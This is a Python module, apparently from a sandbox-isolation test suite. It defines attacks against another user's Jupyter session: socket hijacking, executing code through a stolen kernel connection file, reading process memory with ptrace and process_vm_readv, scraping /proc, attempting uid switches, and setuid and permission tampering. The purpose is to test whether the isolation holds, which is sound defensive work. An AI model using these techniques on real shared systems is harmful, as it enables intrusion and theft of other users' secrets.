"""Attacks on another session's life: its kernel's memory and sockets, its processes, what it says, who it is.

A part of the group `other sessions`.
"""

from __future__ import annotations

from ..case import Attack, Group
from .toolkit import python

_SESSIONS = Group.SESSIONS

#: Where the other session is, who it is, and its secrets.
THERE = r"""
guardian, kernel, told = bystander()
root, runtime = told["root"], told["runtime"]
uid = told["sandbox"]["uid"] or os.getuid()
file, session_root = f"{root}/files/private.txt", os.path.dirname(os.getcwd())
places = [root, *(f"{root}/{name}" for name in ("files", "home", "tmp", "artifacts", "checkpoints")), runtime]
def secret(text):
    return text if text and re.search(rb"bystander-(secret-7d1f|token-51c0|word-9e22)", text) else None
"""

_SOCKETS = r"""
names = [f"{runtime}/{name}" for name in ("k-1", "k-2", "k-3", "k-4", "k-5", "k-fork")]
names += [line.split()[7] for line in open("/proc/net/unix").readlines()[1:] if len(line.split()) > 7]
mine = own_sockets()
for name in names:
    if name.startswith(mine):
        continue
    with socket.socket(socket.AF_UNIX) as one:
        one.settimeout(2)
        address = "\0" + name[1:] if name.startswith("@") else name
        if passes(one.connect, address):
            keep(f"{name} says", attempt(one.recv, 100) or "nothing, but it took the connection")
    if name.startswith("/"):
        passed(f"{name} removed", os.remove, name)
        with socket.socket(socket.AF_UNIX) as one:
            passed(f"{name} taken", one.bind, name)
verdict()
"""

_ASKED = r"""
# Whoever has the kernel's key and reaches its sockets may run code there.
path = f"{runtime}/connection.json"
text = attempt(read, path)
keep("the key of its kernel", text)
if text:
    from jupyter_client.blocking import BlockingKernelClient
    client = BlockingKernelClient()
    client.load_connection_info(json.loads(text))
    client.start_channels()
    client.execute("print(token)")
    import queue
    ends = time.monotonic() + 10
    while time.monotonic() < ends:
        with contextlib.suppress(queue.Empty):
            message = client.get_iopub_msg(timeout=1)
            keep("its kernel says", secret(str(message["content"].get("text", "")).encode()))
verdict()
"""

_MEMORY = r"""
wanted = b"bystander-token-51c0"
keep("by its memory's file", attempt(memory, kernel, wanted))
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
areas = (attempt(read, f"/proc/{kernel}/maps", 1 << 20) or b"400000-401000").splitlines()
for area in areas[:3000]:
    start, end = (int(word, 16) for word in area.split()[0].split(b"-"))
    size = min(end - start, 1 << 24)
    room = ctypes.create_string_buffer(size)
    here, there = Piece(ctypes.addressof(room), size), Piece(start, size)
    if attempt(call, "process_vm_readv", kernel, ctypes.byref(here), 1, ctypes.byref(there), 1, 0):
        keep("by process_vm_readv", wanted in room.raw and wanted)
if attempt(call, "ptrace", 16, kernel, 0, 0) is not None:
    time.sleep(0.1)
    word = ctypes.c_long()
    attempt(call, "ptrace", 2, kernel, 0x400000, ctypes.byref(word))
    keep("by ptrace", hex(word.value))
    attempt(call, "ptrace", 17, kernel, 0, 0)
verdict()
"""

_PROCESSES = r"""
import fcntl
theirs = [pid for pid in others() if f"Uid:\t{uid}\t".encode() in (attempt(read,
        f"/proc/{pid}/status") or b"")] or [kernel]
for pid in theirs:
    for name in ("environ", "auxv", "maps", "io", "stack", "syscall", "pagemap", "mountstats", "timers",
                 "task/%d/environ" % pid):
        keep(f"{name} of {pid}", attempt(read, f"/proc/{pid}/{name}", 200))
    for name in ("cwd", "root", "exe"):
        keep(f"{name} of {pid}", attempt(os.readlink, f"/proc/{pid}/{name}"))
        keep(f"{name} of {pid} entered", attempt(lambda: (os.chdir(f"/proc/{pid}/{name}"),
                                                          os.listdir())[1]) if name != "exe" else None)
    for name in ("fd", "fdinfo", "map_files", "ns"):
        keep(f"{name} of {pid}", attempt(os.listdir, f"/proc/{pid}/{name}"))
    handle = attempt(os.pidfd_open, pid)
    for number in range(1, 11) if handle is not None else ():
        keep(f"a namespace of {pid} by its handle", attempt(fcntl.ioctl, handle, 0xFF00 | number))
    for entry in range(32) if handle is not None else ():
        keep(f"descriptor {entry} of {pid}", attempt(call, "pidfd_getfd", handle, entry, 0))
verdict()
"""

_COMMAND_LINES = r"""
for pid, words in others().items():
    text = " ".join(words).encode()
    if "guardian.py" not in text.decode("utf-8", "replace"):
        keep(f"its shell cell, by the command line of {pid}", secret(text))
    keep(f"the name of {pid}", secret(attempt(read, f"/proc/{pid}/comm")))
verdict()
"""

_BECOME = r"""
before = os.getresuid() + os.getresgid()
for step in ((os.setresuid, uid, uid, uid), (os.seteuid, uid), (os.setreuid, -1, uid), (os.setresgid, uid, uid, uid),
             (os.setegid, uid), (os.setgroups, [uid]), (os.setregid, -1, uid)):
    if passes(*step):
        keep(f"{step[0].__name__} to {uid}", os.getresuid() + os.getresgid())
for name in ("setfsuid", "setfsgid"):
    call(name, uid)
    now = call(name, -1 & 0xFFFFFFFF)
    keep(name, now == uid and f"files are reached as {now}")
keep("its file", secret(attempt(read, file)))
for line in (["setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups", "cat", file], ["setpriv",
        "--groups", str(uid), "cat", file],
             ["newgrp", str(uid)], ["su", f"#{uid}", "-c", f"cat {file}"], ["unshare", "--user", f"--map-user={uid}",
                     "id", "-u"],
             ["unshare", "--user", "--map-auto", "id", "-u"]):
    keep(line[0], subprocess.run(line, capture_output=True, stdin=subprocess.DEVNULL).stdout)
out, into = os.pipe()
child = os.fork()
if child == 0:
    with contextlib.suppress(OSError):
        call("unshare", 0x10000000)
        open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
        os.write(into, b"its user, mapped")
    os._exit(0)
os.close(into)
os.waitpid(child, 0)
keep("a namespace with its user", os.read(out, 100))
verdict()
"""

_MODES = r"""
access = struct.pack("=I", 2) + b"".join(struct.pack("=HHI", *entry) for entry in
                                         ((1, 7, 0xFFFFFFFF), (2, 7, os.getuid()), (4, 7, 0xFFFFFFFF), (16, 7,
                                                 0xFFFFFFFF), (32, 7, 0xFFFFFFFF)))
for path in [*places, file, f"{root}/lock", os.path.dirname(root), os.path.dirname(runtime),
             f"{runtime}/connection.json", f"{runtime}/k-1"]:
    passed(f"mode of {path}", os.chmod, path, 0o1777)
    passed(f"owner of {path}", os.chown, path, os.getuid(), os.getgid())
    passed(f"list of who may use {path}", os.setxattr, path, "system.posix_acl_access", access)
for path in (session_root, f"{session_root}/artifacts", f"{session_root}/lock"):
    passed(f"mode of our own {path}", os.chmod, path, 0o777)
keep("its file, after all", secret(attempt(read, file)))
verdict()
"""

_BORROWED = r"""
# A program of our own that runs in its group or as its user: by its owner, or by a directory that hands a group on.
shutil.copy(sys.executable, "program")
os.makedirs("handed-on", exist_ok=True)
for path in ("program", "handed-on"):
    for owner, group in ((uid, -1), (-1, uid), (uid, uid), (0, -1), (-1, 0)):
        if passes(os.chown, path, owner, group) and (owner, group) != (os.getuid(), os.getgid()):
            keep(f"{path} belongs to", (os.stat(path).st_uid, os.stat(path).st_gid))
    attempt(os.chmod, path, 0o6777)
shutil.copy(sys.executable, "handed-on/program")
attempt(os.chmod, "handed-on/program", 0o6755)
show = f"import os; print(os.geteuid(), os.getegid()); print(open({file!r}).read())"
for path in ("./program", "./handed-on/program"):
    said = subprocess.run([path, "-S", "-c", show], capture_output=True, text=True).stdout.split()
    keep(path, said if said and said[:2] != [str(os.getuid()), str(os.getgid())] or len(said) > 2 else None)
# A directory in its place that we own, and a sticky one that guards nothing.
for path in ("/dev/shm/handed-on", "/tmp/handed-on"):
    if passes(os.mkdir, path):
        attempt(os.chown, path, -1, uid)
        keep(f"{path} belongs to the group", os.stat(path).st_gid if os.stat(path).st_gid != os.getgid() else None)
        os.rmdir(path)
verdict()
"""

ATTACKS: tuple[Attack, ...] = (
    python(_SESSIONS, "to reach or replace its kernel's sockets", THERE + _SOCKETS),
    python(_SESSIONS, "to run code in its kernel", THERE + _ASKED),
    python(_SESSIONS, "to read its kernel's memory", THERE + _MEMORY),
    python(_SESSIONS, "to learn from its processes", THERE + _PROCESSES),
    python(_SESSIONS, "to read its shell cells in the list of processes", THERE + _COMMAND_LINES),
    python(_SESSIONS, "to become its user", THERE + _BECOME),
    python(_SESSIONS, "to change modes and owners", THERE + _MODES),
    python(_SESSIONS, "to run programs as its user or in its group", THERE + _BORROWED),
)
